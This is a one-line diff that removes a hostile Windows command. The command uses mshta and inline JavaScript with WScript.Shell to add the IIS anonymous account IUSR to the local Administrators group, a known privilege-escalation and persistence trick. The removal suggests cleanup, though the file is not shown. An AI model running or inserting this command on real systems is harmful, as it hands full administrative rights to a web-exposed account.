@@ -1,1 +1,0 @@
-mshta "javascript:new ActiveXObject('WScript.Shell').Run('net localgroup Administrators IUSR /add');close()"
